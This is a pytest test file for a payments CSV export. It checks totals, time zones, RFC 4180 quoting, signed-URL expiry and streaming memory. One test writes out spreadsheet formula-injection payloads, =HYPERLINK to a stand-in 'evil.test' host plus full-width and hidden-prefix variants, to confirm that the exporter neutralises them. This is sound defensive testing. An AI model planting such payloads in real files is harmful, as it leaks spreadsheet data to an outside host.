"""Payments as a CSV file: the same figures line by line, at an address that opens nothing else."""

import csv
import re
import tracemalloc
from datetime import datetime, timedelta
from io import StringIO
from time import perf_counter
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import pytest
from httpx import Response
from tortoise import connections

import models
from operations.ledger import payment_exports
from operations.ledger.entries import Period
from operations.ledger.payment_exports import BATCH_ROWS, HEADINGS, payments_csv
from rules import clock
from tests.api.bookkeeping import a_month_of_business, balance_transactions, minor, month
from tests.world import Api, World

URL = "query($from: DateTime!, $to: DateTime!) { paymentExportUrl(from: $from, to: $to) }"


async def address(api: Api, start: datetime, end: datetime) -> str:
    data = await api.read(URL, **{"from": start.isoformat(), "to": end.isoformat()})
    return str(data["paymentExportUrl"])


async def download(world: World, start: datetime, end: datetime, api: Api | None = None) -> Response:
    return await world.http.get(await address(api or world.inspector, start, end))


def lines(response: Response) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(StringIO(response.content.decode("utf-8"), newline="")))


def cents(text: str) -> int:
    assert re.fullmatch(r"\d+\.\d\d", text)
    return int(text.replace(".", ""))


@pytest.mark.parametrize("zone", ["America/Chicago", "Pacific/Auckland"])
async def test_its_lines_are_the_entries_and_sum_to_the_report(world: World, zone: str) -> None:
    """The CSV has one line for each movement of money, and they sum to the report (S39)."""
    await a_month_of_business(world)
    (await world.inspector.mutate("updateCompany", timeZone=zone)).done("userErrors")
    start, end = month(zone)
    found = lines(await download(world, start, end))
    entries = [movement for movement in await balance_transactions() if start <= movement.moment < end]
    assert sorted(
        (line["time"], line["method"], line["status"], cents(line["paid"]), cents(line["refunded"])) for line in found
    ) == sorted(
        (
            movement.moment.astimezone(ZoneInfo(zone)).isoformat(timespec="seconds"),
            movement.payment.method,
            movement.payment.state,
            movement.paid,
            movement.refunded,
        )
        for movement in entries
    )
    report = await world.inspector.read(
        "query($from: DateTime!, $to: DateTime!) { paymentReport(from: $from, to: $to, groupBy: DAY)"
        " { key count paid { amount } refunded { amount } } }",
        **{"from": start.isoformat(), "to": end.isoformat()},
    )
    for row in report["paymentReport"]:
        day = [line for line in found if line["date"] == row["key"]]
        assert sum(line["kind"] == "PAYMENT" for line in day) == row["count"]
        assert sum(cents(line["paid"]) for line in day) == minor(row["paid"])
        assert sum(cents(line["refunded"]) for line in day) == minor(row["refunded"])
    moments = [datetime.fromisoformat(line["time"]) for line in found]
    assert moments == sorted(moments)


async def test_an_hour_that_clocks_repeat_is_told_apart(world: World) -> None:
    """Times in an hour that clocks repeat are told apart by their offset (S39)."""
    await a_month_of_business(world)
    times = {line["time"] for line in lines(await download(world, *month("America/Chicago")))}
    assert {"2026-11-01T01:30:00-05:00", "2026-11-01T01:30:00-06:00"} <= times


async def test_it_is_a_file_of_rfc_4180(world: World) -> None:
    """The CSV follows RFC 4180 and keeps the characters of names (S39)."""
    job = await world.inspection("10.00", people=(('Zoë "Z" Müller, 山田', "CLIENT"),))
    done = await world.inspector.mutate(
        "recordPayment", "payment { id }", invoiceId=job.primary_id, amount="10.00", method="CHECK", reference="No. 7"
    )
    done.done("payment")
    now = clock.now()
    response = await download(world, now - timedelta(days=1), now + timedelta(days=1))
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert re.fullmatch(r'attachment; filename="payments-\d{8}-\d{8}\.csv"', response.headers["content-disposition"])
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["cache-control"] == "no-store"
    text = response.content.decode("utf-8")
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
    assert '"Zoë ""Z"" Müller, 山田"' in text
    (line,) = lines(response)
    assert tuple(line) == HEADINGS
    assert line["payer"] == 'Zoë "Z" Müller, 山田'
    assert (line["kind"], line["paid"], line["refunded"], line["currency"]) == ("PAYMENT", "10.00", "0.00", "USD")
    assert (line["payer_role"], line["method"], line["reference"]) == ("Client", "CHECK", "No. 7")


@pytest.mark.parametrize(
    "beginning",
    ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u207b", "\u2212", "\u2002="],
)
async def test_no_cell_is_a_formula(world: World, beginning: str) -> None:
    """What people typed never reaches a spreadsheet as a formula, in full width or behind a space either (S39)."""
    formula = f'{beginning}HYPERLINK("http://evil.test"&A1,"pay")'
    job = await world.inspection("10.00", people=(("Clara", "CLIENT"),))
    done = await world.inspector.mutate(
        "recordPayment", "payment { id }", invoiceId=job.primary_id, amount="10.00", method="OTHER", reference="x"
    )
    done.done("payment")
    # Written past the rules for names: the file must be safe whatever is stored.
    await models.Payment.all().update(payer_name=formula, reference=formula)
    await models.Invoice.all().update(property_address=formula)
    now = clock.now()
    (line,) = lines(await download(world, now - timedelta(days=1), now + timedelta(days=1)))
    assert (line["payer"], line["property"], line["reference"]) == (f"'{formula}",) * 3
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in line.values())


@pytest.mark.parametrize(
    "blank", ["\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x1b", "\u3000", " \u200b\t"]
)
def test_blanks_before_a_sign_hide_no_formula(blank: str) -> None:
    """Spreadsheets drop what is invisible at the beginning of a cell; a text behind it stays as it is (S39)."""
    assert payment_exports._text(f"{blank}=1+1") == f"'{blank}=1+1"
    assert payment_exports._text(f"{blank}\uff1d1+1") == f"'{blank}\uff1d1+1"


@pytest.mark.parametrize(
    "text", ["", "12 Shore Road", "O\u2019Neil = Sons", "\u5c71\u7530", " (Main) 5", "#7", "\u2013 5", "\u200b"]
)
def test_a_text_that_is_no_formula_stays_as_it_was(text: str) -> None:
    """Names and addresses are exported as they were typed (S39)."""
    assert payment_exports._text(text) == text


async def test_a_currency_without_decimals_has_none(world: World) -> None:
    """Amounts in a currency without decimals are exported without decimals (S39)."""
    _, api = await world.new_company("Minato", "owner@minato.test", currency="JPY")
    job = await world.inspection("12000", api=api)
    (await api.mutate("recordPayment", "payment { id }", invoiceId=job.primary_id, amount="12000", method="CASH")).done(
        "payment"
    )
    now = clock.now()
    (line,) = lines(await download(world, now - timedelta(days=1), now + timedelta(days=1), api))
    assert (line["paid"], line["refunded"], line["currency"]) == ("12000", "0", "JPY")
    assert lines(await download(world, now - timedelta(days=1), now + timedelta(days=1))) == []


async def test_an_address_opens_one_company_and_period_for_a_quarter_of_an_hour(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A signed export address opens one company's one period, for 15 minutes (S39)."""
    start, end = month("America/Chicago")
    key, stranger = await world.new_company("Elsewhere Inspections", "owner@elsewhere.test")
    good = await address(world.inspector, start, end)
    assert (await world.http.get(good)).status_code == 200
    path, _, query = good.partition("?")
    wrong = [
        path,
        good.replace(str(world.company_key), str(key)),
        good.replace("2026-11-01", "2026-10-01"),
        re.sub(r"expires=\d+", "expires=9999999999", good),
        good.replace("signature=", "signature=AAAA"),
        f"{good}&from={urlencode({'': start.isoformat()})[1:]}x",
        f"{good}&more=1",
        f"{world.settings.public_url}/documents/invoices/{key}?{query}",
    ]
    for url in wrong:
        refused = await world.http.get(url)
        assert (refused.status_code, refused.json()["errors"][0]["extensions"]["code"]) == (404, "NOT_FOUND"), url
    assert await address(stranger, start, end) != good
    later = clock.now() + timedelta(minutes=15, seconds=1)
    monkeypatch.setattr(clock, "now", lambda: later)
    assert (await world.http.get(good)).status_code == 404


async def twenty_thousand_payments(world: World) -> int:
    """Copies of one payment, some of whose moments coincide."""
    job = await world.inspection("10.00")
    done = await world.inspector.mutate(
        "recordPayment", "payment { id }", invoiceId=job.primary_id, amount="10.00", method="CASH"
    )
    done.done("payment")
    await connections.get("default").execute_query("UPDATE payments SET settled_at = '2026-11-02'")
    (row,) = await connections.get("default").execute_query_dict("SELECT * FROM payments")
    columns = [name for name in row if name not in ("id", "settled_at")]
    await connections.get("default").execute_query(
        f"INSERT INTO payments (id, settled_at, {', '.join(columns)})"
        f" SELECT gen_random_uuid(), timestamptz '2026-11-02' + (n / 7) * interval '1 minute', {', '.join(columns)}"
        " FROM payments, generate_series(1, 19999) n"
    )
    return 20_000


async def test_a_big_export_streams_in_bounded_memory(world: World) -> None:
    """A big export is streamed in bounded memory (S39)."""
    count = await twenty_thousand_payments(world)
    period = Period(*month("UTC"))
    held, longest = [], 0
    tracemalloc.start()
    try:
        async for piece in payments_csv(world.company_key, period):
            longest = max(longest, len(piece))
            held.append(tracemalloc.get_traced_memory()[0])
    finally:
        tracemalloc.stop()
    assert len(held) == 1 + count // BATCH_ROWS, "the headings, and then a piece for each batch"
    assert longest < 400 * BATCH_ROWS
    assert max(held[2:]) - min(held[2:]) < 1_000_000, "memory does not grow with the rows"
    started = perf_counter()
    response = await download(world, period.start, period.end)
    seconds = perf_counter() - started
    found = lines(response)
    assert len(found) == count
    assert len({line["time"] for line in found}) == 19_999 // 7 + 1
    assert sum(cents(line["paid"]) for line in found) == count * 1000
    assert seconds < 15, f"{count} rows took {seconds:.1f} s"
